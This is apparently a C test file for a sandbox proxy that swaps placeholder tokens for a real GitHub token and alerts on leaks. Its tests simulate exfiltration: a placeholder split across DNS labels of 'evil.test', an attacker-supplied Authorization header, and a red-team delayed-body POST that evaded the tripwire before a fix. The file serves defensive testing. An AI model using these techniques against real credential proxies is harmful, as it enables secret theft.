/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The credential proxy inside the real proxy worker, on loopback only: an
 * HTTPS upstream with its own test CA on 127.0.0.2 records the request heads
 * it receives; moat_proxy_main() runs with a per-run CA, the upstream CA as
 * its trust store, and one secret bound to api.github.test. Clients go
 * through the HTTP proxy (CONNECT) like curl, Python and git in a sandbox
 * would, holding only the placeholder.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "harness/tap.h"
#include "network/netns.h"
#include "policy/policy.h"
#include "proxy/proxy.h"
#include "proxy/http1.h"
#include "proxy/secrets.h"
#include "proxy/sni.h"
#include "proxy/tls.h"
#include "shared/macro.h"

#define UP_ADDR "127.0.0.2"
#define REAL "ghp_REALproxy0123456789abcdef"

static char heads_path[64], runca_path[64], upca_path[64];
static uint16_t up_port, http_port, dns_port, sink_port;
static int ev_rd = -1;
static struct moat_secrets *secrets;
/* Connections the upstream accepted (shared with its process). */
static unsigned *up_accepts;
/* plain.test: allowed, same upstream, no secret. --inspect-tls all and
 * --no-inspect for the next setup(). */
static bool inspect_all;
static char *no_inspect_host;

static char *gh_hosts[] = {(char[]){"api.github.test"}};
static struct moat_secret gh = {.name = (char[]){"GH_TOKEN"},
				.source = MOAT_SECRET_ENV,
				.from = (char[]){"MOAT_T_PROXY_GH"},
				.hosts = gh_hosts,
				.n_hosts = 1};

static void pem_file(struct moat_tls_ca *ca, char path[64], const char *tmpl)
{
	char *pem = NULL;
	snprintf(path, 64, "%s", tmpl);
	int fd = mkstemp(path);
	ASSERT_TRUE(fd >= 0);
	ASSERT_EQ(moat_tls_ca_cert_pem(ca, &pem), 0);
	ASSERT_EQ(write(fd, pem, strlen(pem)), (ssize_t)strlen(pem));
	close(fd);
	free(pem);
}

static int listen_tcp(const char *addr, uint16_t *ret_port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET};
	socklen_t len = sizeof(sa);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ASSERT_TRUE(fd >= 0);
	inet_pton(AF_INET, addr, &sa.sin_addr);
	if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		moat_tap_fail(__FILE__, __LINE__, "bind %s: %m", addr);
	ASSERT_EQ(listen(fd, 64), 0);
	ASSERT_EQ(getsockname(fd, (struct sockaddr *)&sa, &len), 0);
	*ret_port = ntohs(sa.sin_port);
	return fd;
}

/* HTTPS upstream: records each head (and body) to heads_path, answers
 * "ok <path>"; one child per connection, keep-alive. */
_noreturn_ static void upstream_main(struct moat_tls_ca *ca, int lfd)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		int fd = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
		if (fd < 0)
			continue;
		__atomic_add_fetch(up_accepts, 1, __ATOMIC_SEQ_CST);
		if (fork() != 0) {
			close(fd);
			continue;
		}
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		SSL_CTX *ctx = NULL;
		SSL *ssl = NULL;
		/* A certificate for the name the client asks for (like a
		 * front serving several names). */
		struct moat_sni_info si = {0};
		uint8_t peek[4096];
		for (int i = 0; i < 100; i++) {
			ssize_t k = recv(fd, peek, sizeof(peek), MSG_PEEK);
			if (k <= 0 || moat_sni_parse(peek, (size_t)k, &si) != MOAT_SNI_NEED_MORE)
				break;
			usleep(10000);
		}
		if (!si.host[0])
			snprintf(si.host, sizeof(si.host), "api.github.test");
		if (moat_tls_leaf_ctx(ca, si.host, &ctx) < 0 ||
		    moat_tls_server_new(ctx, fd, &ssl) < 0 || SSL_accept(ssl) != 1)
			_exit(0);
		for (;;) {
			static char buf[1 << 16];
			size_t len = 0;
			char *end;
			while (!(end = memmem(buf, len, "\r\n\r\n", 4))) {
				int n = SSL_read(ssl, buf + len, (int)(sizeof(buf) - len - 1));
				if (n <= 0)
					_exit(0);
				len += (size_t)n;
			}
			size_t head = (size_t)(end - buf) + 4;
			buf[len] = '\0';
			const char *cl = strcasestr(buf, "Content-Length: ");
			size_t want = head + (cl && cl < end ? strtoul(cl + 16, NULL, 10) : 0);
			while (len < want) {
				int n = SSL_read(ssl, buf + len, (int)(sizeof(buf) - len - 1));
				if (n <= 0)
					_exit(0);
				len += (size_t)n;
			}
			int hf = open(heads_path, O_WRONLY | O_APPEND | O_CLOEXEC);
			(void)!write(hf, buf, want);
			(void)!write(hf, "\n----\n", 6);
			close(hf);
			char path[256] = "?", resp[512];
			sscanf(buf, "%*s %255s", path);
			int rl;
			/* Like a git host: ask for credentials first. */
			if (strstr(path, "/acme/") && !strcasestr(buf, "\r\nAuthorization:"))
				rl = snprintf(
					resp, sizeof(resp),
					"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic "
					"realm=\"x\"\r\nContent-Length: 0\r\n\r\n");
			else
				rl = snprintf(
					resp, sizeof(resp),
					"HTTP/1.1 200 OK\r\nContent-Length: %zu\r\n\r\nok %s\n",
					strlen(path) + 4, path);
			SSL_write(ssl, resp, rl);
			memmove(buf, buf + want, len - want);
		}
	}
}

static void setup(bool trust_upstream)
{
	static char name[] = "api.github.test", plain[] = "plain.test", sink[] = "sink.test",
		    up[] = UP_ADDR;
	static struct moat_host_rule allow[3];
	static struct moat_resolve res[] = {{.name = name, .addr = up},
					    {.name = plain, .addr = up},
					    {.name = sink, .addr = up}};
	struct moat_tls_ca *run_ca = NULL, *up_ca = NULL;
	struct moat_proxy_config *cfg = NULL;
	struct moat_netns_fds lfds;
	struct moat_error e;
	SSL_CTX *uctx = NULL;
	int ev[2], ulfd;
	pid_t pid;

	setenv("MOAT_T_PROXY_GH", REAL, 1);
	ASSERT_EQ(moat_secrets_new(&gh, 1, &secrets, &e), 0);
	ASSERT_EQ(moat_tls_ca_new("proxytest", &run_ca), 0);
	ASSERT_EQ(moat_tls_ca_new("upstream", &up_ca), 0);
	pem_file(run_ca, runca_path, "/tmp/moat-t-runca.XXXXXX");
	pem_file(up_ca, upca_path, "/tmp/moat-t-upca.XXXXXX");
	snprintf(heads_path, sizeof(heads_path), "/tmp/moat-t-heads.XXXXXX");
	close(mkstemp(heads_path));

	ulfd = listen_tcp(UP_ADDR, &up_port);
	up_accepts = mmap(NULL, sizeof(*up_accepts), PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	ASSERT_TRUE(up_accepts != MAP_FAILED);
	pid = fork();
	ASSERT_TRUE(pid >= 0);
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		upstream_main(up_ca, ulfd);
	}
	close(ulfd);
	/* sink.test: a plain TCP upstream that reads until EOF, answers nothing */
	ulfd = listen_tcp(UP_ADDR, &sink_port);
	pid = fork();
	ASSERT_TRUE(pid >= 0);
	if (pid == 0) {
		char junk[4096];
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;) {
			int a = accept(ulfd, NULL, NULL);
			if (a < 0)
				_exit(0);
			while (read(a, junk, sizeof(junk)) > 0)
				;
			close(a);
		}
	}
	close(ulfd);

	allow[0] = (struct moat_host_rule){.pattern = name, .ports = {up_port}, .n_ports = 1};
	allow[1] = (struct moat_host_rule){.pattern = plain, .ports = {up_port}, .n_ports = 1};
	allow[2] = (struct moat_host_rule){.pattern = sink, .ports = {sink_port}, .n_ports = 1};
	struct moat_policy pol = {.allow_hosts = allow,
				  .n_allow_hosts = 3,
				  .resolve = res,
				  .n_resolve = 3,
				  .inspect_tls_all = inspect_all,
				  .no_inspect = no_inspect_host ? &no_inspect_host : NULL,
				  .n_no_inspect = no_inspect_host ? 1 : 0};
	ASSERT_EQ(moat_proxy_config_from_policy(&pol, &cfg), 0);
	cfg->no_resolver = true;
#if defined(__SANITIZE_ADDRESS__)
	cfg->no_seccomp = true;
#endif
	ASSERT_EQ(moat_tls_client_ctx(trust_upstream ? upca_path : runca_path, &uctx), 0);
	cfg->ca = run_ca;
	cfg->upstream_tls = uctx;
	cfg->secrets = secrets;
	moat_netns_fds_init(&lfds);
	lfds.http = listen_tcp("127.0.0.1", &http_port);
	{
		struct sockaddr_in sa = {.sin_family = AF_INET,
					 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
		socklen_t sl = sizeof(sa);
		lfds.dns_udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
		ASSERT_EQ(bind(lfds.dns_udp, (struct sockaddr *)&sa, sizeof(sa)), 0);
		ASSERT_EQ(getsockname(lfds.dns_udp, (struct sockaddr *)&sa, &sl), 0);
		dns_port = ntohs(sa.sin_port);
	}
	ASSERT_EQ(pipe2(ev, O_CLOEXEC), 0);
	pid = fork();
	ASSERT_TRUE(pid >= 0);
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		close(ev[0]);
		(void)moat_secrets_harden_process();
		int r = moat_proxy_main(cfg, &lfds, ev[1]);
		fprintf(stderr, "moat_proxy_main: %s\n", strerror(-r));
		_exit(1);
	}
	close(ev[1]);
	ev_rd = ev[0];
	fcntl(ev_rd, F_SETFL, O_NONBLOCK);
	moat_netns_fds_close(&lfds);
	moat_proxy_config_free(cfg);
	SSL_CTX_free(uctx);
	moat_tls_ca_free(run_ca);
	moat_tls_ca_free(up_ca);
	/* Like the supervisor: the values are gone from this process. */
	moat_secrets_drop_values(secrets);
}

static char *slurp(const char *path)
{
	static char buf[1 << 16];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return buf;
}

static char *events(void)
{
	static char buf[1 << 16];
	size_t len = 0;
	usleep(200 * 1000);
	for (;;) {
		ssize_t k = read(ev_rd, buf + len, sizeof(buf) - 1 - len);
		if (k <= 0)
			break;
		len += (size_t)k;
	}
	buf[len] = 0;
	return buf;
}

/* Run a shell command with PH (placeholder), PROXY, CA, PORT set; its stdout. */
static char *sh(const char *script, int *ret_status)
{
	static char out[1 << 16];
	char env[1024];
	snprintf(env, sizeof(env),
		 "PH='%s' PROXY=http://127.0.0.1:%u CA='%s' UPCA='%s' PORT=%u HOME=/nonexistent "
		 "GIT_CONFIG_NOSYSTEM=1 ",
		 moat_secrets_placeholder(secrets, 0), http_port, runca_path, upca_path, up_port);
	size_t cap = strlen(env) + strlen(script) + 64;
	char *cmd = malloc(cap);
	snprintf(cmd, cap, "%s bash -c '%s' 2>&1", env, script);
	FILE *f = popen(cmd, "r");
	size_t n = f ? fread(out, 1, sizeof(out) - 1, f) : 0;
	out[n] = '\0';
	int st = f ? pclose(f) : -1;
	*ret_status = WIFEXITED(st) ? WEXITSTATUS(st) : 128;
	free(cmd);
	return out;
}

TEST(proxy_tls_curl_gets_real_token_upstream)
{
	int st;
	if (access("/usr/bin/curl", X_OK) < 0)
		SKIP("curl is not installed");
	setup(true);
	char *out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		       "-H \"Authorization: Bearer $PH\" https://api.github.test:$PORT/user",
		       &st);
	if (st != 0)
		moat_tap_fail(__FILE__, __LINE__, "curl: %s", out);
	ASSERT_CONTAINS(out, "ok /user");
	char *heads = slurp(heads_path);
	ASSERT_CONTAINS(heads, "Authorization: Bearer " REAL "\r\n");
	ASSERT_TRUE(!strstr(heads, "moat-ph-"));
	char *ev = events();
	ASSERT_CONTAINS(ev, "secret-injected GH_TOKEN");
	ASSERT_TRUE(!strstr(ev, REAL));
}

TEST(proxy_tls_python_and_git)
{
	int st;
	if (access("/usr/bin/git", X_OK) < 0)
		SKIP("git is not installed");
	setup(true);
	/* Python urllib through the proxy, trusting the bundle. */
	char *out = sh(
		"command -v python3 >/dev/null || exit 0; python3 - <<EOF\n"
		"import os, ssl, urllib.request\n"
		"ctx = ssl.create_default_context(cafile=os.environ[\"CA\"])\n"
		"ph = urllib.request.ProxyHandler({\"https\": os.environ[\"PROXY\"]})\n"
		"op = urllib.request.build_opener(ph, urllib.request.HTTPSHandler(context=ctx))\n"
		"rq = urllib.request.Request(\"https://api.github.test:%s/py\" % os.environ[\"PORT\"],\n"
		"    headers={\"X-Api-Token\": os.environ[\"PH\"]})\n"
		"print(op.open(rq, timeout=10).read().decode())\n"
		"EOF",
		&st);
	if (st != 0)
		moat_tap_fail(__FILE__, __LINE__, "python: %s", out);
	/* git: Basic credentials with the placeholder as password. */
	out = sh("GIT_SSL_CAINFO=$CA GIT_TERMINAL_PROMPT=0 https_proxy=$PROXY "
		 "git ls-remote https://x-access-token:$PH@api.github.test:$PORT/acme/r.git",
		 &st);
	char *heads = slurp(heads_path);
	if (strstr(out, "python3"))
		ASSERT_CONTAINS(heads, "X-Api-Token: " REAL "\r\n");
	ASSERT_CONTAINS(heads, "GET /acme/r.git/info/refs");
	/* Basic "x-access-token:REAL" */
	char want[256];
	unsigned char plain[] = "x-access-token:" REAL;
	EVP_EncodeBlock((unsigned char *)want, plain, (int)sizeof(plain) - 1);
	char line[300];
	snprintf(line, sizeof(line), "Authorization: Basic %s\r\n", want);
	if (!strstr(heads, line))
		moat_tap_fail(__FILE__, __LINE__, "git did not send injected Basic auth: %s / %s",
			      heads, out);
	ASSERT_TRUE(!strstr(heads, "moat-ph-"));
}

TEST(proxy_tls_refusals_alert)
{
	int st;
	if (access("/usr/bin/curl", X_OK) < 0)
		SKIP("curl is not installed");
	setup(true);
	/* In the URL: 403 and an alert. */
	char *out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		       "\"https://api.github.test:$PORT/search?q=$PH\"",
		       &st);
	ASSERT_CONTAINS(out, "placeholder in the request URL");
	/* In the body. */
	out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA -d \"token=$PH\" "
		 "https://api.github.test:$PORT/post",
		 &st);
	ASSERT_CONTAINS(out, "placeholder in the request body");
	/* The client's own credentials. */
	out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		 "-H \"Authorization: token ghp_ATTACKER\" https://api.github.test:$PORT/",
		 &st);
	ASSERT_CONTAINS(out, "client-supplied Authorization");
	/* Plain HTTP to the same host (RT-062 e). */
	out = sh("curl -sS --max-time 10 --proxy $PROXY -H \"Authorization: Bearer $PH\" "
		 "http://api.github.test:$PORT/",
		 &st);
	ASSERT_CONTAINS(out, "placeholder sent over plain HTTP");
	char *heads = slurp(heads_path);
	ASSERT_TRUE(!strstr(heads, "search"));
	ASSERT_TRUE(!strstr(heads, "ATTACKER"));
	ASSERT_TRUE(!strstr(heads, "moat-ph-"));
	char *ev = events();
	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in the request URL");
	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder sent over plain HTTP");
	ASSERT_TRUE(!strstr(ev, REAL));
}

TEST(proxy_tls_upstream_wrong_ca_fails)
{
	int st;
	if (access("/usr/bin/curl", X_OK) < 0)
		SKIP("curl is not installed");
	/* The proxy trusts another CA than the upstream's: 502, never unverified. */
	setup(false);
	char *out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		       "-H \"Authorization: Bearer $PH\" https://api.github.test:$PORT/",
		       &st);
	ASSERT_CONTAINS(out, "certificate verify failed");
	ASSERT_STREQ(slurp(heads_path), "");
}

/* A DNS A query for name to the proxy's stub: the response code. */
static int dns_rcode(const char *name)
{
	unsigned char q[512] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}, r[512];
	size_t o = 12;
	for (const char *p = name; *p;) {
		size_t l = strcspn(p, ".");
		q[o++] = (unsigned char)l;
		memcpy(q + o, p, l);
		o += l;
		p += l;
		if (*p == '.')
			p++;
	}
	q[o++] = 0;
	q[o++] = 0;
	q[o++] = 1;
	q[o++] = 0;
	q[o++] = 1;
	struct sockaddr_in sa = {.sin_family = AF_INET,
				 .sin_port = htons(dns_port),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct timeval tv = {5, 0};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	ASSERT_EQ(sendto(fd, q, o, 0, (struct sockaddr *)&sa, sizeof(sa)), (ssize_t)o);
	ssize_t n = recv(fd, r, sizeof(r), 0);
	close(fd);
	return n >= 4 ? (r[3] & 0xf) : -1;
}

TEST(proxy_tls_dns_placeholder_alert)
{
	char name[256];
	setup(true);
	const char *ph = moat_secrets_placeholder(secrets, 0);
	/* Split over labels, like an exfiltration attempt would. */
	snprintf(name, sizeof(name), "%.20s.%s.evil.test", ph, ph + 20);
	ASSERT_EQ(dns_rcode(name), 3);
	ASSERT_EQ(dns_rcode("api.github.test"), 0);
	char *ev = events();
	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in a DNS query");
}

/* ---- one set of TLS rules whatever the ClientHello says ------------------- */

/* CONNECT @host through the proxy, then a real OpenSSL handshake sending
 * @sni (NULL: none) and trusting @cafile. 1 if it completed, else 0. */
static int connect_tls(const char *host, const char *sni, const char *cafile)
{
	char req[300], buf[64];
	size_t ok = strlen(MOAT_HTTP1_CONNECT_OK);
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(http_port)};
	struct timeval tv = {.tv_sec = 5};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), done;

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	ASSERT_EQ(connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	snprintf(req, sizeof(req), "CONNECT %s:%u HTTP/1.1\r\nHost: %s:%u\r\n\r\n", host, up_port,
		 host, up_port);
	ASSERT_EQ(write(fd, req, strlen(req)), (ssize_t)strlen(req));
	ASSERT_EQ(recv(fd, buf, ok, MSG_WAITALL), (ssize_t)ok);
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	SSL_CTX_load_verify_locations(ctx, cafile, NULL);
	SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	SSL *ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	if (sni)
		SSL_set_tlsext_host_name(ssl, sni);
	SSL_set1_host(ssl, sni ? sni : host);
	done = SSL_connect(ssl) == 1;
	SSL_free(ssl);
	SSL_CTX_free(ctx);
	close(fd);
	return done;
}

/* The upstream's accept count once it reached @want (the proxy may connect
 * upstream after the client's handshake completed), or what it is after 5 s. */
static unsigned wait_accepts(unsigned want)
{
	unsigned n = 0;
	for (int i = 0; i < 500; i++) {
		n = __atomic_load_n(up_accepts, __ATOMIC_SEQ_CST);
		if (n >= want)
			break;
		usleep(10 * 1000);
	}
	return n;
}

TEST(proxy_tls_intercepted_host_only_through_interception)
{
	setup(true);
	/* positive control: the intercepted host with its SNI (the proxy's
	 * leaf, trusted through the run CA) */
	ASSERT_EQ(connect_tls("api.github.test", "api.github.test", runca_path), 1);
	unsigned base = wait_accepts(1);
	ASSERT_EQ(base, 1);
	/* no SNI; another allowed host's SNI at the same address; and the
	 * other way round: none reaches the upstream raw, or at all */
	ASSERT_EQ(connect_tls("api.github.test", NULL, upca_path), 0);
	ASSERT_EQ(connect_tls("api.github.test", "plain.test", upca_path), 0);
	ASSERT_EQ(connect_tls("plain.test", "api.github.test", upca_path), 0);
	ASSERT_EQ(connect_tls("plain.test", NULL, upca_path), 0);
	usleep(100 * 1000);
	ASSERT_EQ(__atomic_load_n(up_accepts, __ATOMIC_SEQ_CST), base);
	/* positive control: plain.test with its SNI passes through untouched
	 * (the upstream's own certificate) */
	ASSERT_EQ(connect_tls("plain.test", "plain.test", upca_path), 1);
	/* ... and it is the one connection the upstream saw since: none of
	 * the four refused ones arrived late */
	ASSERT_EQ(wait_accepts(base + 1), base + 1);
	char *ev = events();
	ASSERT_CONTAINS(ev, "\"decision\":\"deny\",\"reason\":\"no-sni\"");
	ASSERT_CONTAINS(ev,
			"\"sni\":\"plain.test\",\"decision\":\"deny\",\"reason\":\"sni-mismatch\"");
	ASSERT_CONTAINS(
		ev,
		"\"sni\":\"api.github.test\",\"decision\":\"deny\",\"reason\":\"sni-mismatch\"");
}

TEST(proxy_tls_inspect_all_sees_placeholders_everywhere)
{
	int st;
	if (access("/usr/bin/curl", X_OK) < 0)
		SKIP("curl is not installed");
	/* positive control: by default plain.test is a tunnel and the
	 * placeholder reaches it unseen */
	setup(true);
	char *out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $UPCA "
		       "-H \"Authorization: Bearer $PH\" https://plain.test:$PORT/leak",
		       &st);
	ASSERT_CONTAINS(out, "ok /leak");
	ASSERT_CONTAINS(slurp(heads_path), "moat-ph-");
	/* --inspect-tls all: intercepted, refused, alerted */
	inspect_all = true;
	setup(true);
	out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		 "-H \"Authorization: Bearer $PH\" https://plain.test:$PORT/leak",
		 &st);
	ASSERT_CONTAINS(out, "placeholder sent to a host it is not approved for");
	ASSERT_TRUE(!strstr(slurp(heads_path), "moat-ph-"));
	/* and a request without a placeholder goes through the interception */
	out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA https://plain.test:$PORT/fine",
		 &st);
	ASSERT_CONTAINS(out, "ok /fine");
	char *ev = events();
	ASSERT_CONTAINS(ev,
			"alert: secret GH_TOKEN: placeholder sent to a host it is not approved");
	ASSERT_CONTAINS(ev, "\"reason\":\"intercepted\"");
}

TEST(proxy_tls_no_inspect_passes_through)
{
	int st;
	if (access("/usr/bin/curl", X_OK) < 0)
		SKIP("curl is not installed");
	inspect_all = true;
	no_inspect_host = (char[]){"plain.test"};
	setup(true);
	/* the upstream's own certificate: not intercepted */
	char *out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $UPCA "
		       "https://plain.test:$PORT/pinned",
		       &st);
	ASSERT_CONTAINS(out, "ok /pinned");
	/* positive control: the secret's host is still intercepted (the run
	 * CA's leaf, the real token injected) */
	out = sh("curl -sS --max-time 10 --proxy $PROXY --cacert $CA "
		 "-H \"Authorization: Bearer $PH\" https://api.github.test:$PORT/user",
		 &st);
	ASSERT_CONTAINS(out, "ok /user");
	ASSERT_CONTAINS(slurp(heads_path), "Authorization: Bearer " REAL "\r\n");
	/* and pass-through still needs the SNI */
	ASSERT_EQ(connect_tls("plain.test", NULL, upca_path), 0);
}

/* Red team: on the plain HTTP path the placeholder tripwire saw only the body
 * bytes that arrived with the head; a client that sent the head, waited, then
 * the body carried a placeholder past it (no alert before the fix). The
 * interceptor already scanned the window across reads; now both do. */
static void plain_post(const char *host, const char *body, bool split)
{
	char head[400];
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(http_port)};
	struct timeval tv = {.tv_sec = 3};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	ASSERT_EQ(connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	snprintf(head, sizeof(head),
		 "POST http://%s:%u/x HTTP/1.1\r\nHost: %s:%u\r\nContent-Length: %zu\r\n\r\n%s",
		 host, sink_port, host, sink_port, strlen(body), split ? "" : body);
	ASSERT_EQ(write(fd, head, strlen(head)), (ssize_t)strlen(head));
	if (split) {
		usleep(150 * 1000);
		ASSERT_EQ(write(fd, body, strlen(body)), (ssize_t)strlen(body));
	}
	usleep(150 * 1000);
	close(fd);
}

TEST(proxy_plain_body_tripwire_whatever_the_segments)
{
	char body[200];
	setup(true);
	snprintf(body, sizeof(body), "token=%s", moat_secrets_placeholder(secrets, 0));
	/* positive control: head and body in one write */
	plain_post("sink.test", body, false);
	char *ev = events();
	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in the request body");
	/* the attack: the body in a later write */
	plain_post("sink.test", body, true);
	ev = events();
	ASSERT_CONTAINS(ev, "alert: secret GH_TOKEN: placeholder in the request body");
	/* no placeholder: no alert (the check is not a blanket refusal) */
	plain_post("sink.test", "token=nothing", true);
	ev = events();
	ASSERT_TRUE(!strstr(ev, "alert:"));
}
